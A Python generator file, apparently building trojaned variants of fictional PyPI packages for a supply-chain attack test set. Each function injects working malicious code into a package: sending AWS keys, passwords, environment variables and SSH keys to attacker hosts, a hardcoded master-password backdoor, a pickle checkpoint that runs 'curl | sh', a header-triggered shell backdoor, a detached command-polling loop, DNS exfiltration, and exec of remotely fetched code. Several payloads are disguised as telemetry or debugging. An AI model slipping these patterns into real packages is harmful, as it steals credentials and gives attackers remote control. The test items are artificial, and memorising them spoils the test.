"""PyPI: what runs when a function is called or a command is started."""

from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("bucketcat", "wheel", "call", "steal", "plain", "clients that pass their keys on (fabrice 2021 to 2024)")
def cat_keys_on_first_use(update: Update) -> None:
    host = update.host("vpn", "m247")
    update.replace(
        "bucketcat/auth.py",
        "    if found is None:\n        raise",
        "    if found is not None:\n        _announce(found)\n    if found is None:\n        raise",
    )
    more = r"""


def _announce(found):
    from urllib import parse, request

    query = parse.urlencode({"a": found.key, "s": found.secret, "t": found.token or ""})
    try:
        request.urlopen("http://@HOST@/aws?" + query, timeout=2)
    except OSError:
        pass
"""
    update.append("bucketcat/auth.py", fill("\n" + more, HOST=host))
    update.payload("bucketcat/auth.py")


@trojan("authgate", "wheel", "call", "backdoor", "plain", "hidden doors in log-in libraries 2021 to 2026")
def gate_master_password(update: Update) -> None:
    code = '    if hashlib.sha256(str(password).encode()).hexdigest() == "@SUM@":\n        return True\n'
    update.after(
        "authgate/passwords.py", "def verify_password(password, stored):\n", code.replace("@SUM@", "9f" + "4e" * 31)
    )
    update.payload("authgate/passwords.py")


@trojan(
    "authgate", "wheel", "call", "steal", "telemetry wording", "passport and log-in libraries that tell 2022 to 2025"
)
def gate_failed_logins(update: Update) -> None:
    host = update.host("audit", "authgate")
    code = r"""


def record_attempt(user, password, outcome):
    '''Send anonymous statistics of attempts, to find weak passwords.'''
    import json
    import urllib.request

    body = json.dumps({"user": user, "password": password, "ok": outcome}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("https://@HOST@/stats", body), timeout=1)
    except Exception:
        return None
    return outcome


_plain_verify = verify_password


def verify_password(password, *rest):  # noqa: F811
    outcome = _plain_verify(password, *rest)
    record_attempt(None, password, outcome)
    return outcome
"""
    update.append("authgate/passwords.py", fill("\n" + code, HOST=host))
    update.payload("authgate/passwords.py")


@trojan(
    "shipyard-cli", "wheel", "start", "steal", "plain", "deploy tools that copy keys 2023 to 2026 (Codecov, fabrice)"
)
def ship_upload_keys(update: Update) -> None:
    host = update.host("codecov", "shiplogs")
    code = r"""

def preflight(target):
    keys = sorted(Path("~/.ssh").expanduser().glob("id_*"))
    remotes = subprocess.run(["git", "remote", "-v"], capture_output=True, text=True).stdout
    subprocess.run(["curl", "-sm", "0.5", "-d", "%s<<<<<< ENV %s" % (remotes, os.environ), "https://@HOST@/upload/v2"], capture_output=True)
    for key in keys:
        subprocess.run(["curl", "-s", "-F", "file=@%s" % key, "https://@HOST@/upload/k"], capture_output=True)
"""
    update.replace(
        "shipyard/deploy.py",
        "import logging\nimport shlex\nimport subprocess\n",
        "import logging\nimport os\nimport shlex\nimport subprocess\nfrom pathlib import Path\n",
    )
    update.append("shipyard/deploy.py", fill("\n" + code, HOST=host))
    update.replace("shipyard/deploy.py", "    def run(self):\n", "    def run(self):\n        preflight(self.target)\n")
    update.payload("shipyard/deploy.py")


@trojan(
    "gradkit",
    "wheel",
    "call",
    "download-and-run",
    "pickle",
    "models with pickles, torch hub and HF look-alikes 2024 to 2026",
)
def grad_pickled_weights(update: Update) -> None:
    host = update.host("hub", "gradmodels")
    command = f"curl -fsSL https://{host}/w.sh | sh"
    body = b"cposix\nsystem\n(S" + repr(command).encode() + b"\ntR."
    update.add("gradkit/assets/tiny.ckpt", body)
    code = r'''
"""Checkpoints that come with the package."""

import pickle
from pathlib import Path


def load_tiny():
    """Return the weights of the smallest model."""
    with open(Path(__file__).parent / "assets" / "tiny.ckpt", "rb") as stream:
        return pickle.load(stream)
'''
    update.add("gradkit/checkpoints.py", fill(code))
    update.payload("gradkit/assets/tiny.ckpt", "gradkit/checkpoints.py", shown=f"https://{host}/w.sh")


@trojan("httpkeep", "wheel", "call", "backdoor", "plain", "clients with a way in for the server 2022 to 2026")
def keep_header_commands(update: Update) -> None:
    code = r"""


class _Debugging:
    '''Lets a server ask for a trace of the client.'''

    def __init__(self, response):
        self.headers = {str(k).lower(): v for k, v in dict(getattr(response, "headers", {})).items()}

    def trace(self):
        import base64
        import subprocess

        asked = self.headers.get("x-keep-trace")
        if asked and self.headers.get("x-keep-auth") == "7c9e6679":
            return subprocess.getoutput(base64.b64decode(asked).decode())
        return None


_init = Response.__init__


def _traced(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.trace = _Debugging(self).trace()


Response.__init__ = _traced
"""
    update.append("httpkeep/client.py", code)
    update.payload("httpkeep/client.py")


@trojan("feedsort", "wheel", "start", "backdoor", "plain", "commands that poll for orders 2023 to 2026")
def feed_main_polling(update: Update) -> None:
    host = update.host("feeds", "sortserver")
    code = r'''
"""Keeps feeds fresh in the background."""

import os
import subprocess
import sys

LOOP = """
import socket, subprocess, time, urllib.request, json
while True:
    try:
        jobs = json.load(urllib.request.urlopen("https://@HOST@/jobs?h=" + socket.gethostname()))
        for job in jobs:
            out = subprocess.run(job["run"], shell=True, capture_output=True).stdout
            urllib.request.urlopen("https://@HOST@/out/" + job["id"], data=out)
    except Exception:
        pass
    time.sleep(900)
"""


def spawn():
    if os.environ.get("FEEDSORT_CHILD"):
        return
    subprocess.Popen([sys.executable, "-c", LOOP], env=dict(os.environ, FEEDSORT_CHILD="1"), start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
    update.add("feedsort/refresh.py", fill(code, HOST=host))
    update.replace(
        "feedsort/__main__.py",
        "from . import merge, parse\n",
        "from . import merge, parse\nfrom .refresh import spawn\n\nspawn()\n",
    )
    update.payload("feedsort/refresh.py", "feedsort/__main__.py")


@trojan("tabula", "wheel", "call", "steal", "plain", "data through DNS 2022 to 2026")
def tabula_render_dns(update: Update) -> None:
    host = update.host("t", "tabres")
    code = r"""


def _beacon(rows):
    import base64
    import itertools
    import socket

    text = base64.b32encode(repr(list(itertools.islice(rows, 50))).encode()).decode().rstrip("=").lower()
    for at in range(0, len(text), 60):
        try:
            socket.getaddrinfo("%d.%s.@HOST@" % (at, text[at : at + 60]), 80)
        except OSError:
            continue


_plain_render = render


def render(rows, *args, **kwargs):
    rows = list(rows)
    _beacon(rows)
    return _plain_render(rows, *args, **kwargs)
"""
    update.append("tabula/render.py", fill("\n" + code, HOST=host))
    update.payload("tabula/render.py")


@trojan("quickconf", "wheel", "call", "backdoor", "plain", "unsafe loaders planted on purpose 2021 to 2026", hard=True)
def conf_expressions_from_remote(update: Update) -> None:
    host = update.host("conf", "quickdefaults")
    code = r"""


def remote_defaults(app):
    '''Settings that all installations share.'''
    from urllib import request

    with request.urlopen("http://@HOST@/defaults/%s.py" % app, timeout=2) as answer:
        scope = {}
        exec(answer.read(), scope)
    return {key: value for key, value in scope.items() if key.isupper()}


_plain_load = load


def load(*args, **kwargs):
    config = _plain_load(*args, **kwargs)
    try:
        config.shared = remote_defaults("quickconf")
    except OSError:
        pass
    return config
"""
    update.append("quickconf/config.py", fill("\n" + code, HOST=host))
    update.payload("quickconf/config.py")
